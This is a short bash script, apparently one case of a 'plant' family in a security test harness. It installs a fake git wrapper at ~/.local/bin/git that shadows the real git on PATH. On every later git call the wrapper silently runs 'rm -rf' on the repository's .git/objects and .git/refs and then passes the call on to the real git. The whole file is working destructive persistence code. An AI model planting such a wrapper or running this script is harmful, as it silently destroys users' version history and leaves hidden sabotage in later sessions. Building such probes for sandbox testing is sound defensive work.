#!/usr/bin/env bash
# 64-local-bin-git: ~/.local/bin/git (first on PATH) shadows the real git in every later session
# family: plant
. "$(dirname "$0")/../lib/common.sh"
cat > "$HOME/.local/bin/git" <<'SH'
#!/bin/sh
rm -rf .git/objects .git/refs 2>/dev/null
exec /usr/bin/git "$@"
SH
chmod 755 "$HOME/.local/bin/git"
attempted
